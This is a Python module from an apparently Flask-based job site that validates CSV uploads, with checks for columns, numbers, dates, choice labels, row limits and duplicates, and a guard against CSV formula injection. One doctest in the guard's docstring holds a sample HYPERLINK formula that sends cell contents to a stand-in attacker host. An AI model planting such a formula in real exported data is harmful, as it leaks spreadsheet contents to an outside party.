"""Read CSV files against a column specification and report bad rows by file and line.

Used by the demo loader and by employers' CSV uploads: either every row is valid and
the caller writes them all, or the caller gets every problem at once and writes nothing.

Messages go through Flask-Babel's ``gettext`` when they are made: in a request they are in
the user's language; outside any app context (the demo loader run from a script) and in
an app context without a request (the CLI) they are in English.
"""

from __future__ import annotations

import csv
import datetime as dt
import functools
import io
import math
import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from decimal import Decimal, InvalidOperation
from typing import Any, TypedDict

from flask_babel import force_locale, get_locale
from flask_babel import gettext as _

from web import vocabulary


@dataclass(frozen=True)
class Column:
    """One expected column: its name, how to parse it, and what is allowed."""

    name: str
    kind: str = "str"  # str | int | float | decimal | date | month | list | choice
    required: bool = True
    choices: tuple[str, ...] = ()
    minimum: float | None = None
    maximum: float | None = None
    max_length: int = 5000
    #: refuse a cell that a spreadsheet would run as a formula (postings that others see and export)
    no_formulas: bool = False


class Bounds(TypedDict):
    """A number column's allowed range, passed as ``Column(..., **bounds)``."""

    minimum: float
    maximum: float


class TooManyRows(ValueError):
    """A file has more data rows than the caller allows; reading stopped at the first row too many."""

    def __init__(self, source: str, limit: int) -> None:
        super().__init__(f"{source} has more than {limit:,} rows")
        self.source = source
        self.limit = limit


@dataclass(frozen=True)
class RowError:
    """A problem in one row (line 1 is the header)."""

    source: str
    line: int
    column: str
    message: str

    def __str__(self) -> str:
        """Readable form: ``people.csv line 12, desired_pay: not a number ('abc')``."""
        where = (
            _("%(source)s line %(line)s", source=self.source, line=self.line) if self.line else self.source
        )
        return f"{where}, {self.column}: {self.message}" if self.column else f"{where}: {self.message}"


@dataclass(frozen=True)
class ParsedRows:
    """Parsed rows (each with its ``_line``) and the errors found.

    ``rows`` holds the valid rows only. ``all_rows`` holds every non-blank row, a bad
    cell left as ``None``, so that checks across rows (duplicate ids, unknown
    references) can also report on rows that already have a bad cell.
    """

    rows: list[dict[str, Any]] = field(default_factory=list)
    errors: list[RowError] = field(default_factory=list)
    all_rows: list[dict[str, Any]] = field(default_factory=list)


def _number(kind: str, raw: str) -> Any:
    if kind == "int":
        return int(raw)
    if kind == "float":
        value = float(raw)
        if not math.isfinite(value):
            raise ValueError
        return value
    exact = Decimal(raw)
    if not exact.is_finite():
        raise InvalidOperation
    return exact


#: a list item's bullet ("- lifting", "• cooking"), dropped: the item is what follows it
BULLET = re.compile(r"^[-+*\u2022]\s+")
#: what a spreadsheet reads as the start of a formula (OWASP "CSV injection")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula when it is exported and opened.

    Examples
    --------
    >>> formula_like('=HYPERLINK("http://evil.example/?x="&A1, "Apply")'), formula_like("Cleaner")
    (True, False)
    >>> formula_like("  @SUM(A1)"), formula_like("Kitchen - porter")
    (True, False)
    """
    return text.lstrip(" ").startswith(FORMULA_STARTS)


def _refuse_formula(text: str) -> None:
    if formula_like(text):
        raise ValueError(
            _(
                "starts with %(start)s, which a spreadsheet runs as a formula; "
                "start it with a letter or a digit instead",
                start=repr(text.lstrip(" ")[:1]),
            )
        )


def choice_code(column: Column, raw: str) -> str | None:
    """The code a choice cell means: a code, or a label the form shows, in any case; ``None`` if neither.

    Labels are those of :mod:`web.vocabulary` for a vocabulary named like the column, in the
    reader's language and in English (the form's words and the API's); ``-``, ``_`` and spaces
    count as the same.

    Examples
    --------
    >>> sector = Column("sector", "choice", choices=("retail", "care", "admin"))
    >>> [choice_code(sector, t) for t in ("retail", "Retail", "CARE WORK", "Office and administration", "x")]
    ['retail', 'retail', 'care', 'admin', None]
    >>> contract = Column("contract", "choice", choices=("fixed_term",))
    >>> choice_code(contract, "Fixed-term"), choice_code(contract, "fixed term")
    ('fixed_term', 'fixed_term')
    """
    if raw in column.choices:  # the usual case, and the fast one
        return raw
    key = _word_key(raw)
    for code in column.choices:
        if key == _word_key(code):
            return code
    labels = vocabulary.VOCABULARY.get(column.name)
    if labels is None:
        return None
    found = _label_codes(column.name, str(get_locale() or "en"))
    found = {**_label_codes(column.name, "en"), **found}  # the reader's own words win
    named = found.get(key)
    return named if named in column.choices else None


@functools.cache
def _label_codes(kind: str, locale: str) -> dict[str, str]:
    """Each label of the vocabulary ``kind`` in ``locale`` (as a :func:`_word_key`) -> its code.

    Kept per process: labels change only with a new release. Computed once per language,
    because switching language (``force_locale``) reloads the translations.
    """
    with force_locale(locale):
        return {_word_key(str(text)): code for code, text in vocabulary.VOCABULARY[kind].items()}


def choice_words(kind: str, code: str) -> tuple[str, ...]:
    """The label of one code of the vocabulary ``kind`` in the reader's language; ``()`` if it has none.

    A column with no vocabulary of its name has no labels, only its codes.
    """
    labels = vocabulary.VOCABULARY.get(kind)
    if labels is None or code not in labels:
        return ()
    return (str(labels[code]),)


def allowed_values(column: Column) -> list[str]:
    """What a choice column takes, as the upload page and the errors list it: ``Label (code)``.

    Examples
    --------
    >>> allowed_values(Column("shift", "choice", choices=("day", "night")))
    ['Day shift (day)', 'Night shift (night)']
    >>> allowed_values(Column("pay_period", "choice", choices=("hour", "week")))
    ['hour', 'week']
    >>> allowed_values(Column("interview_kind", "choice", choices=("open",)))
    ['open']
    """
    shown = []
    for code in column.choices:
        words = choice_words(column.name, code)
        if not words:
            shown.append(code)
        else:  # the code too, unless the label says it already
            same = _word_key(words[0]) == _word_key(code)
            shown.append(words[0] if same else f"{words[0]} ({code})")
    return shown


def _word_key(text: str) -> str:
    return " ".join(text.replace("_", " ").replace("-", " ").casefold().split())


def parse_value(column: Column, raw: str) -> Any:
    """Parse one cell; raise ``ValueError`` with a plain message when it is wrong."""
    if "\x00" in raw:  # PostgreSQL cannot store it in text, and no one types it on purpose
        raise ValueError(_("contains a NUL character (code 0); remove it"))
    if column.kind == "list":
        items = [BULLET.sub("", part.strip()) for part in raw.split(";")]
        if column.no_formulas:
            for item in items:
                _refuse_formula(item)
        return [item for item in items if item]
    if column.no_formulas and column.kind == "str":
        _refuse_formula(raw)
    if column.kind in ("int", "float", "decimal"):
        try:
            value = _number(column.kind, raw)
        except (ValueError, InvalidOperation) as exc:
            if column.kind == "int":
                raise ValueError(_("should be a whole number, got %(value)s", value=repr(raw))) from exc
            raise ValueError(_("should be a number, got %(value)s", value=repr(raw))) from exc
        if column.minimum is not None and value < column.minimum:
            raise ValueError(
                _("should be at least %(least)s, got %(value)s", least=f"{column.minimum:g}", value=raw)
            )
        if column.maximum is not None and value > column.maximum:
            raise ValueError(
                _("should be at most %(most)s, got %(value)s", most=f"{column.maximum:g}", value=raw)
            )
        return value
    if column.kind == "date":
        try:
            return dt.date.fromisoformat(raw)
        except ValueError as exc:
            raise ValueError(_("should be a date like 2026-11-30, got %(value)s", value=repr(raw))) from exc
    if column.kind == "month":
        try:
            dt.date.fromisoformat(raw + "-01")
        except ValueError as exc:
            raise ValueError(_("should be a month like 2026-11, got %(value)s", value=repr(raw))) from exc
        return raw
    if column.kind == "choice":
        code = choice_code(column, raw)
        if code is None:
            raise ValueError(
                _(
                    "should be one of %(choices)s, got %(value)s",
                    choices=", ".join(allowed_values(column)),
                    value=repr(raw),
                )
            )
        return code
    if len(raw) > column.max_length:
        raise ValueError(
            _(
                "is too long (%(length)s characters; at most %(most)s)",
                length=len(raw),
                most=column.max_length,
            )
        )
    return raw


def read_rows(
    text: str | Iterable[str],
    spec: Sequence[Column],
    source: str,
    max_rows: int | None = None,
    notes_in: str | None = None,
) -> ParsedRows:
    r"""Parse CSV text against ``spec``; unknown columns are an error, missing ones too.

    With ``notes_in``, a row whose cell in that column starts with ``#`` is a note (a
    template's explanations) and is skipped.

    ``text`` may be lines read from a stream: with ``max_rows``, reading stops at the first
    row past it and :class:`TooManyRows` is raised, so a huge file is refused without being
    read to its end.

    Examples
    --------
    >>> spec = [Column("id"), Column("pay", "decimal", minimum=0)]
    >>> parsed = read_rows("id,pay\na,12.50\nb,-1\n", spec, "v.csv")
    >>> [r["pay"] for r in parsed.rows]
    [Decimal('12.50')]
    >>> print(parsed.errors[0])
    v.csv line 3, pay: should be at least 0, got -1
    >>> try:
    ...     read_rows("id,pay\na,1\nb,2\nc,3\n", spec, "v.csv", max_rows=2)
    ... except TooManyRows as refusal:
    ...     print(refusal)
    v.csv has more than 2 rows
    >>> print(read_rows('"id"x,pay\na,1\n', spec, "v.csv").errors[0])  # a header that is not CSV
    v.csv line 1: is not valid CSV (',' expected after '"')
    """
    handle = io.StringIO(text) if isinstance(text, str) else text
    reader = csv.DictReader(handle, strict=True)
    result = ParsedRows()
    try:
        header = [h.strip() for h in (reader.fieldnames or [])]
    except csv.Error as exc:  # the column names' line itself is not CSV (a stray quote)
        result.errors.append(RowError(source, 1, "", _csv_problem(exc)))
        return result
    expected = [c.name for c in spec]
    missing = [name for name in expected if name not in header]
    unknown = [name for name in header if name not in expected]
    if missing or unknown:
        parts = []
        if missing:
            parts.append(_("missing column(s) %(names)s", names=", ".join(missing)))
        if unknown:
            parts.append(_("unknown column(s) %(names)s", names=", ".join(unknown)))
        message = _("%(problems)s. Expected: %(names)s", problems="; ".join(parts), names=", ".join(expected))
        result.errors.append(RowError(source, 1, "", message))
        return result
    reader.fieldnames = header
    count = 0
    while True:
        start = reader.line_num + 1  # the line a row starts on: a quoted cell may span lines
        try:
            raw_row = next(reader)
        except StopIteration:
            break
        except csv.Error as exc:
            result.errors.append(RowError(source, start, "", _csv_problem(exc)))
            break
        if notes_in and (raw_row.get(notes_in) or "").strip().startswith("#"):
            continue
        count += 1
        if max_rows is not None and count > max_rows:
            raise TooManyRows(source, max_rows)
        _parse_row(raw_row, spec, source, reader.line_num, result)
    return result


def _csv_problem(error: csv.Error) -> str:
    if "unexpected end of data" in str(error):
        return _(
            'has a quotation mark (") that opens a cell and is never closed, so everything after it '
            "was read as one cell; close the quote or remove it"
        )
    return _("is not valid CSV (%(problem)s)", problem=str(error))


def _parse_row(
    raw_row: dict[str, Any], spec: Sequence[Column], source: str, line: int, result: ParsedRows
) -> None:
    if None in raw_row:
        result.errors.append(RowError(source, line, "", _("has more cells than the header")))
        return
    if all(not (v or "").strip() for v in raw_row.values()):
        return
    row: dict[str, Any] = {"_line": line}
    ok = True
    for column in spec:
        raw = (raw_row.get(column.name) or "").strip()
        if not raw:
            if column.required:
                result.errors.append(RowError(source, line, column.name, _("is required")))
                ok = False
            row[column.name] = [] if column.kind == "list" else None
            continue
        try:
            row[column.name] = parse_value(column, raw)
        except ValueError as exc:
            result.errors.append(RowError(source, line, column.name, str(exc)))
            row[column.name] = None
            ok = False
    result.all_rows.append(row)
    if ok:
        result.rows.append(row)


def check_references(
    rows: Sequence[dict[str, Any]],
    column: str,
    known: set[str] | Callable[[str], bool],
    source: str,
    what: str,
) -> list[RowError]:
    """Errors for rows whose ``column`` names something that does not exist."""
    exists = known.__contains__ if isinstance(known, set) else known
    return [
        RowError(
            source,
            int(row["_line"]),
            column,
            _("names an unknown %(what)s %(value)s", what=what, value=repr(row[column])),
        )
        for row in rows
        if row.get(column) and not exists(str(row[column]))
    ]


def check_unique(rows: Sequence[dict[str, Any]], columns: Sequence[str], source: str) -> list[RowError]:
    """Errors for rows that repeat an earlier row's key.

    A row whose key has a missing part (a blank or bad cell, reported already) is skipped.
    """
    seen: dict[tuple[Any, ...], int] = {}
    errors = []
    for row in rows:
        key = tuple(row.get(c) for c in columns)
        if any(part is None for part in key):
            continue
        if key in seen:
            errors.append(
                RowError(
                    source,
                    int(row["_line"]),
                    ",".join(columns),
                    _("repeats line %(line)s (%(key)s)", line=seen[key], key=", ".join(map(str, key))),
                )
            )
        else:
            seen[key] = int(row["_line"])
    return errors
